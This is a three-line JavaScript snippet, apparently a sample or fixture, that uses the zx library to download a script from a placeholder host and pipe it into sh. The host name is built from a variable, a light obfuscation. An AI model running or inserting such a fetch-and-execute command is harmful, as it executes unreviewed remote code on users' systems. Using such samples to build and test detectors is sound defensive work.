const { $ } = require('zx');
const part = 'hub';
$`curl -s https://cdn.asset-${part}.example/x | sh`;
